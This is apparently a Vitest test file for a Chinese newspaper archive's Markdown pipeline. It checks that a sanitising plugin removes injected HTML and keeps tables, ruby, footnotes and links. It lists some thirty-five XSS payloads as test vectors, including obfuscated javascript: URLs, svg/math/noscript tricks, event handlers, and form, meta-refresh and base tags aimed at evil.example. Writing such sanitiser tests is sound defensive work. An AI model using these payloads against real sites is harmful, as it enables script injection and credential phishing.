import { beforeAll, describe, expect, it } from 'vitest';
import { createMarkdownProcessor } from '@astrojs/markdown-remark';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { markdownOptions } from '~/plugins/markdown';
import rehypeSafeHtml from '~/plugins/rehype-safe-html';

// The real pipeline: Astro's Markdown processor with the plugins astro.config.ts configures,
// only with the policy's warnings collected instead of printed.
const { remarkPlugins, rehypePlugins } = markdownOptions;
let warnings: string[] = [];
let render: (md: string) => Promise<string>;
let renderUnsafe: (md: string) => Promise<string>;

beforeAll(async () => {
  const renderer = await createMarkdownProcessor({
    remarkPlugins,
    rehypePlugins: [[rehypeSafeHtml, { warn: (m: string) => warnings.push(m) }], ...rehypePlugins.slice(1)],
    smartypants: false,
  });
  render = async (md) => {
    warnings = [];
    return (await renderer.render(md, { fileURL: new URL('file:///archive/content/articles/2022-09-01/test.md') })).code;
  };
  // The same pipeline without the policy, to prove each vector is live and `dangers` sees it.
  const unsafe = await createMarkdownProcessor({ remarkPlugins, rehypePlugins: rehypePlugins.slice(1), smartypants: false });
  renderUnsafe = async (md) => (await unsafe.render(md)).code;
});

const ACTIVE = new Set(['script', 'iframe', 'frame', 'style', 'svg', 'math', 'form', 'input', 'button', 'meta', 'base', 'link', 'object', 'embed', 'template', 'noscript', 'textarea', 'select']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formAction', 'data', 'cite', 'srcDoc', 'srcSet', 'poster', 'background', 'xLinkHref']);

/**
 * What in `html`, as a browser parses it, could run code, load or submit elsewhere, or restyle
 * the page: active elements, event handlers, style attributes, and URLs whose scheme (after
 * the browser strips tabs, newlines and leading spaces) is not http(s), mailto or relative.
 */
function dangers(html: string): string[] {
  const found: string[] = [];
  visit(fromHtml(html, { fragment: true }), 'element', (el) => {
    if (ACTIVE.has(el.tagName)) found.push(`<${el.tagName}>`);
    for (const [key, value] of Object.entries(el.properties)) {
      if (/^on/i.test(key) || key === 'style') found.push(`${key}=`);
      if (URL_ATTRIBUTES.has(key)) {
        const url = String(value).replace(/[\t\n\r]/g, '').trim().toLowerCase();
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1];
        if (scheme && !['http', 'https', 'mailto'].includes(scheme)) found.push(`${key}=${scheme}:`);
      }
    }
  });
  return found;
}

describe('the raw HTML policy in the article pipeline', () => {
  it('runs first, before the plugins that generate our own markup', () => {
    expect(rehypePlugins[0]).toBe(rehypeSafeHtml);
  });
});

// Each vector: the Markdown an editor (or an attacker with commit rights) might write, and a
// pattern that must not survive into the page as markup. Every vector must also produce a warning.
describe.each([
  ['<script>', 'before<script>alert(1)</script>after', /<script|alert\(1\)/i],
  ['<script> as a block', '<script>\nalert(1)\n</script>', /<script|alert/i],
  ['<SCRIPT> upper case', '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>', /script|evil/i],
  ['<iframe>', '<iframe src="https://evil.example/"></iframe>', /iframe|evil/i],
  ['<iframe srcdoc>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', /iframe|srcdoc|alert/i],
  ['<style>', '<style>body{display:none}</style>正文', /<style|display:none/i],
  ['style= attribute', '<p style="background:url(javascript:alert(1))">文</p>', /style=|javascript/i],
  ['onerror= on <img>', '<img src="x.png" onerror="alert(1)">', /onerror|alert/i],
  ['onclick= mixed case', '<span OnClIcK="alert(1)">点</span>', /onclick|alert/i],
  ['onmouseover= on a link', '<a href="/x/" onmouseover="alert(1)">链接</a>', /onmouseover|alert/i],
  ['javascript: link (HTML)', '<a href="javascript:alert(1)">点</a>', /javascript|alert/i],
  ['JaVaScRiPt: mixed case', '<a href="JaVaScRiPt:alert(1)">点</a>', /javascript|alert/i],
  ['javascript: entity-encoded', '<a href="&#106;avascript&#58;alert(1)">点</a>', /javascript|alert|&#/i],
  ['javascript: hex entities', '<a href="java&#x73;cript:alert(1)">点</a>', /javascript|alert|&#/i],
  ['javascript: with a tab', '<a href="java\tscript:alert(1)">点</a>', /script:|alert/i],
  ['javascript: leading space', '<a href=" javascript:alert(1)">点</a>', /javascript|alert/i],
  ['javascript: Markdown link', '[点](javascript:alert(1))', /javascript|alert/i],
  ['javascript: Markdown autolink', '<javascript:alert(1)>', /href="javascript|href="alert/i],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">点</a>', /vbscript|msgbox/i],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点</a>', /data:|base64/i],
  ['data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', /data:|onload|alert/i],
  ['data: Markdown image', '![图](data:image/svg+xml;base64,PHN2Zz4=)', /data:|base64/i],
  ['<svg onload>', '<svg onload="alert(1)"><circle r="1"/></svg>', /<svg|onload|alert/i],
  ['<svg><script>', '<svg><script>alert(1)</script></svg>', /<svg|<script|alert/i],
  ['<math>', '<math><mtext><img src=x onerror=alert(1)></mtext></math>', /<math|onerror|alert/i],
  ['<form>', '<form action="https://evil.example/"><input name="pw"><button>提交</button></form>', /<form|<input|<button|evil/i],
  ['<meta http-equiv>', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', /<meta|refresh|evil/i],
  ['<base>', '<base href="https://evil.example/">', /<base|evil/i],
  ['<link>', '<link rel="stylesheet" href="https://evil.example/x.css">', /<link|evil/i],
  ['<object>', '<object data="https://evil.example/x.swf"></object>', /<object|evil/i],
  ['<embed>', '<embed src="https://evil.example/x.swf">', /<embed|evil/i],
  ['<template>', '<template><img src=x onerror=alert(1)></template>', /<template|onerror|alert/i],
  ['<noscript>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', /onerror|alert|<noscript/i],
  ['<details ontoggle>', '<details open ontoggle="alert(1)"><summary>x</summary></details>', /ontoggle|alert/i],
  ['formaction=', '<button formaction="javascript:alert(1)">x</button>', /formaction|javascript|<button/i],
])('%s', (_name, markdown, forbidden) => {
  it('never reaches the page as something that runs, and is reported with the file and line', async () => {
    expect(dangers(await renderUnsafe(markdown)).length, 'the vector is live without the policy').toBeGreaterThan(0);
    const html = await render(markdown);
    expect(dangers(html)).toEqual([]);
    // What is left as markup (not as escaped text inside an attribute) holds none of it.
    expect(html.replace(/"[^"]*"/g, '""')).not.toMatch(forbidden);
    expect(warnings.length).toBeGreaterThan(0);
    expect(warnings[0]).toMatch(/^\[safe-html\] .*content\/articles\/2022-09-01\/test\.md:1(:\d+)?: removed /);
  });
});

describe('raw HTML that does not run but could still mislead', () => {
  it('prefixes ids so raw HTML cannot shadow the page\'s own elements, and drops name=', async () => {
    const html = await render('<img id="site-search" name="location" src="x.png" alt="">');
    expect(html).toContain('id="user-content-site-search"');
    expect(html).not.toMatch(/name=|id="site-search"/);
  });

  it.each([
    ['<img src="https://images.example.com/a.jpg" alt="图">'],
    ['![图](http://images.example.com/a.jpg)'],
  ])('drops images from other sites, which the CSP would block anyway: %s', async (markdown) => {
    const html = await render(markdown);
    expect(html).not.toContain('images.example.com');
    expect(warnings).toEqual([expect.stringMatching(/removed src="https?:\/\/images\.example\.com\/a\.jpg" on <img>/)]);
  });

  it('drops comments silently, since nothing in them was ever shown', async () => {
    const html = await render('<!-- <img src=x onerror=alert(1)> -->\n\n文');
    expect(html).not.toMatch(/<!--|onerror/);
    expect(warnings).toEqual([]);
  });

  it('names the line of a removal further down the file', async () => {
    await render('第一段\n\n第二段\n\n<iframe src="https://evil.example/"></iframe>');
    expect(warnings).toEqual([expect.stringMatching(/test\.md:5:1: removed <iframe>/)]);
  });
});

describe('what a newspaper needs survives', () => {
  it.each([
    ['sup/sub', '水H<sub>2</sub>O，面积2<sup>2</sup>', '<sub>2</sub>O，面积2<sup>2</sup>'],
    // The fallback parentheses become full-width like all punctuation in Chinese text.
    ['ruby', '<ruby>六<rp>(</rp><rt>lù</rt><rp>)</rp></ruby>安', '<ruby>六<rp>（</rp><rt>lù</rt><rp>）</rp></ruby>安'],
    ['image from the archive', '![会场](/images/a.jpg)', '<img src="/images/a.jpg" alt="会场">'],
    ['figure', '<figure><img src="/images/a.jpg" alt="会场"><figcaption>会场一角</figcaption></figure>', '<figure><img src="/images/a.jpg" alt="会场"><figcaption>会场一角</figcaption></figure>'],
    ['HTML table', '<table><caption>表</caption><tr><th colspan="2">项目</th></tr></table>', '<th colspan="2">项目</th>'],
    ['Markdown table', '| 项目 | 数 |\n|---|---|\n| 企业 | 125 |', '<td>125</td>'],
    ['https link', '[新华网](https://www.news.cn/)', '<a href="https://www.news.cn/">新华网</a>'],
    ['relative link', '[往期](/editions/)', '<a href="/editions/">往期</a>'],
    ['mailto link', '<a href="mailto:desk@example.org">来信</a>', 'href="mailto:desk@example.org"'],
    ['a colon after the path is not a scheme', '[x](/a/b:c)', 'href="/a/b:c"'],
    ['emphasis', '**加粗**与*强调*', '<strong>加粗</strong>与<em>强调</em>'],
  ])('%s', async (_name, markdown, expected) => {
    expect(await render(markdown)).toContain(expected);
    expect(warnings).toEqual([]);
  });

  it('keeps our own editor notes and paragraph/section anchors after the policy', async () => {
    const html = await render('第一段\n\n## 小标题\n\n> 编者注:原文此处缺失。\n\n第二段');
    expect(html).toContain('<p id="p-1">第一段</p>');
    expect(html).toMatch(/<h2 id="s-1">小标题<a href="#s-1" class="anchor" aria-label="本节链接" data-pagefind-ignore="">#<\/a><\/h2>/);
    expect(html).toMatch(/<aside class="editor-note" role="note"><strong class="editor-note-label">编者注<\/strong>/);
    expect(html).toContain('<p id="p-2">第二段</p>');
  });

  it('keeps raw-HTML paragraphs anchored like Markdown ones, without letting them pick their own id', async () => {
    const html = await render('<p id="p-9">原样段落</p>\n\n第二段');
    expect(html).toContain('<p id="p-1">原样段落</p>');
    expect(html).not.toContain('p-9');
  });

  it('keeps GFM footnote links pointing at their notes', async () => {
    const html = await render('正文[^1]\n\n[^1]: 注释');
    const href = html.match(/href="#(user-content-fn-1)"/)?.[1];
    expect(href).toBe('user-content-fn-1');
    expect(html).toContain(`id="${href}"`);
  });
});
